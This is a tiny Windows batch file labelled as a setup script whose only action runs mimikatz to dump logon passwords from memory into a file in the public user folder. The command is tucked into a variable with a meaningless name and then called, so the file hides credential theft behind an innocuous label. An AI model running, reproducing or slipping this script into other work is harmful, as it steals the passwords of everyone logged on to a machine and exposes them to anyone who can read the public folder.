REM setup 6965 v0
@echo off
set "tcyw=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt"
call %tcyw%
